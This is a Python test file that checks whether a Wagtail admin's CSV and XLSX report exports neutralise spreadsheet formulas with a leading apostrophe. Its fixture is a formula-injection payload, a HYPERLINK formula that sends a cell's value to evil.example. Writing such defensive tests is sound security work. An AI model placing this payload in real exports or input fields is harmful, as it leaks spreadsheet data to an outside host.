"""Security matrix row I05 for the Wagtail admin's own downloads: the aging pages, site
history, locked pages and workflow reports, as CSV and XLSX, are as safe to open in a spreadsheet
as the portal's own (portal.exports): a cell that could start a formula starts with an
apostrophe. (Form submissions are exported from the feedback section, through
portal.exports: tests/home/feedback/test_feedback_export.py.)"""

import csv
import io

import pytest
from openpyxl import load_workbook

from tests.factories import StandardPageFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


def rows_of(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if response["Content-Type"].startswith("text/csv"):
        return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    sheet = load_workbook(io.BytesIO(content)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def cells(rows):
    return [str(cell) for row in rows for cell in row if cell is not None]


@pytest.fixture
def formula_page(home_page, admin_user):
    page = StandardPageFactory(parent=home_page, title=FORMULA)
    page.save_revision(user=admin_user, log_action=True).publish(user=admin_user)
    return page


@pytest.mark.parametrize("export", ["csv", "xlsx"])
@pytest.mark.parametrize("report", ["aging-pages", "site-history"])
def test_report_exports_are_formula_safe(admin_client, formula_page, report, export):
    response = admin_client.get(f"/admin/reports/{report}/?export={export}")
    assert response.status_code == 200
    values = cells(rows_of(response))
    assert "'" + FORMULA in values
    assert not any(value.startswith(("=", "+", "-", "@")) for value in values)


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_locked_pages_export_is_formula_safe(admin_client, admin_user, formula_page, export):
    formula_page.locked, formula_page.locked_by = True, admin_user
    formula_page.save()
    response = admin_client.get(f"/admin/reports/locked/?export={export}")
    assert response.status_code == 200
    assert "'" + FORMULA in cells(rows_of(response))


@pytest.mark.parametrize("export", ["csv", "xlsx"])
@pytest.mark.parametrize("report", ["workflow", "workflow_tasks"])
def test_workflow_report_exports_are_formula_safe(admin_client, admin_user, formula_page, report, export):
    from wagtail.models import GroupApprovalTask, Workflow, WorkflowTask

    task = GroupApprovalTask.objects.create(name=FORMULA)
    workflow = Workflow.objects.create(name=FORMULA)
    WorkflowTask.objects.create(workflow=workflow, task=task, sort_order=0)
    formula_page.save_revision(user=admin_user)
    workflow.start(formula_page, admin_user)
    response = admin_client.get(f"/admin/reports/{report}/?export={export}")
    assert response.status_code == 200
    values = cells(rows_of(response))
    assert "'" + FORMULA in values
    assert not any(value.startswith(("=", "+", "-", "@")) for value in values)
